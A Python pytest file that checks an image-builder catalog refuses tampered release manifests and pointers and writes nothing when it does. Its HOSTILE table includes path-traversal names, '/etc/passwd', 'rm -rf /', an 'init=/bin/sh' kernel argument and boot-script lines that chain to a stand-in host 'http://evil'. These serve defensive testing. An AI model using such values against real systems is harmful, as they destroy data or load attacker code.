"""What a store hands out is untrusted: hostile objects are refused, and nothing is written."""

import hashlib
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from imagebuilder.catalog import Catalog
from imagebuilder.catalog.manifest import clean
from imagebuilder.catalog.model import Release, check_channel, dump, is_version, parse
from imagebuilder.errors import CatalogError, InputError
from imagebuilder.image import Image

from .conftest import passing

Change = Callable[[dict[str, Any]], Any]


def first(data: dict[str, Any], **values: Any) -> None:
    data["artefacts"][0].update(values)


HOSTILE: dict[str, Change] = {
    "a path as name": lambda d: first(d, name="../../x"),
    "an absolute name": lambda d: first(d, name="/etc/passwd"),
    "a hidden name": lambda d: first(d, name=".bashrc"),
    "a newline in a name": lambda d: first(d, name="a\n"),
    "the manifest's own name": lambda d: first(d, name="release.json"),
    "an empty name": lambda d: first(d, name=""),
    "a digest that is a path": lambda d: first(d, sha256="../../../../etc/passwd".ljust(64, "x")),
    "a short digest": lambda d: first(d, sha256="ab"),
    "an upper-case digest": lambda d: first(d, sha256="A" * 64),
    "a negative size": lambda d: first(d, size=-1),
    "a size beyond all bounds": lambda d: first(d, size=1 << 60),
    "a size that is no number": lambda d: first(d, size="12"[:0]),
    "an unknown role": lambda d: first(d, role="exploit"),
    "two files of one name": lambda d: first(d, name="vmlinuz"),
    "no kernel": lambda d: d.update(artefacts=d["artefacts"][:1]),
    "too many files": lambda d: d.update(artefacts=d["artefacts"] * 100),
    "an unknown key": lambda d: d.update(run="rm -rf /"),
    "another name": lambda d: d.update(name="other"),
    "a path as recipe": lambda d: d.update(name="../base"),
    "another version": lambda d: d.update(version="20200101T000000Z-" + d["image"]),
    "a version of another image": lambda d: d.update(image="0" * 16),
    "an escape sequence": lambda d: d.update(summary="\x1b[2J"),
    "a line that does not end": lambda d: d.update(summary="x" * 100000),
    "two kernel arguments in one": lambda d: d.update(kernel_args=["a init=/bin/sh"]),
    "a script in a kernel argument": lambda d: d.update(kernel_args=["a\nchain http://evil"]),
    "a script that looks like a template": lambda d: d.update(
        kernel_args=["{{ a }}\nchain http://e"]
    ),
    "a script in a template": lambda d: d.update(kernel_args=["{{ a }}\nchain http://evil"]),
    "another format": lambda d: d.update(format=2),
    "a list": lambda d: [d],
    "nothing": lambda d: d.clear(),
}


@pytest.mark.parametrize("change", HOSTILE.values(), ids=HOSTILE.keys())
@pytest.mark.parametrize("by", ["channel", "version"])
def test_a_hostile_manifest_is_refused(
    catalog: Catalog, root: Path, image: Image, tmp_path: Path, change: Change, by: str
) -> None:
    release = catalog.publish(image, channel="testing", evidence=passing(image))
    path = root / f"releases/base/{release.version}.json"
    data = json.loads(path.read_text())
    text = json.dumps(change(data) or data)
    path.write_text(text)
    if by == "channel":  # the attacker can write the pointer as well
        channel = root / "channels/base/testing.json"
        digest = hashlib.sha256(text.encode()).hexdigest()
        channel.write_text(channel.read_text().replace(_manifest(channel), digest))
    before = sorted(tmp_path.rglob("*"))

    with pytest.raises(CatalogError) as caught:
        catalog.pull("base", "testing" if by == "channel" else release.version, tmp_path / "o")

    assert str(path) in str(caught.value)
    assert "\x1b" not in str(caught.value)
    assert sorted(tmp_path.rglob("*")) == before


def _manifest(channel: Path) -> str:
    return str(json.loads(channel.read_text())["manifest"])


@pytest.mark.parametrize(
    "data",
    [b"", b"{", b"[" * 100000, b"\xff\xfe", b'{"format":1}', b"{}" + b" " * (5 << 20)],
    ids=["empty", "cut", "deep", "binary", "poor", "big"],
)
@pytest.mark.parametrize("what", ["catalog.json", "channels/base/testing.json", "index.json"])
def test_garbage_in_any_object_is_a_clear_error(
    catalog: Catalog, root: Path, image: Image, data: bytes, what: str
) -> None:
    catalog.publish(image, channel="testing", evidence=passing(image))
    (root / what).write_bytes(data)
    read = catalog.releases if what == "index.json" else lambda: catalog.show("base", "testing")
    with pytest.raises(CatalogError) as caught:
        read()
    assert what in str(caught.value)
    assert caught.value.exit_status == 4


def test_a_manifest_that_was_exchanged_is_noticed(
    catalog: Catalog, root: Path, image: Image
) -> None:
    release = catalog.publish(image, channel="testing", evidence=passing(image))
    path = root / f"releases/base/{release.version}.json"
    path.write_text(path.read_text().replace("quiet", "debug"))
    with pytest.raises(CatalogError, match="not the manifest that was published"):
        catalog.show("base", "testing")


def test_a_pointer_that_was_swapped_is_noticed(catalog: Catalog, root: Path, image: Image) -> None:
    catalog.publish(image, channel="testing", evidence=passing(image))
    (root / "channels/base/stable.json").write_bytes(
        (root / "channels/base/testing.json").read_bytes()
    )
    with pytest.raises(CatalogError, match="pointer of another channel"):
        catalog.show("base", "stable")


def test_a_history_with_a_gap_is_noticed(catalog: Catalog, root: Path, image: Image) -> None:
    catalog.publish(image, channel="testing", evidence=passing(image))
    catalog.publish(image, channel="testing", evidence=passing(image), force=True)
    path = root / "channels/base/testing.json"
    data = json.loads(path.read_text())
    data["history"][0]["generation"] = 7
    path.write_text(json.dumps(data))
    with pytest.raises(CatalogError, match="gap"):
        catalog.show("base", "testing")


def test_a_release_reads_back_the_same(catalog: Catalog, image: Image) -> None:
    release = catalog.publish(image, channel="testing", evidence=passing(image))
    assert parse(Release, dump(release), "here") == release


@settings(max_examples=30)
@given(st.text(max_size=600))
def test_cleaned_text_fits_the_models(text: str) -> None:
    cleaned = clean(text)
    assert cleaned.isprintable()
    assert len(cleaned) <= 500


@given(st.text(alphabet="abcXYZ019./\\-_+\n\0 %é", max_size=70))
def test_a_channel_name_is_one_plain_path_segment(name: str) -> None:
    try:
        check_channel(name)
    except InputError:
        return
    assert "/" not in name
    assert name.isprintable()
    assert name not in (".", "..", "")
    assert not is_version(name)
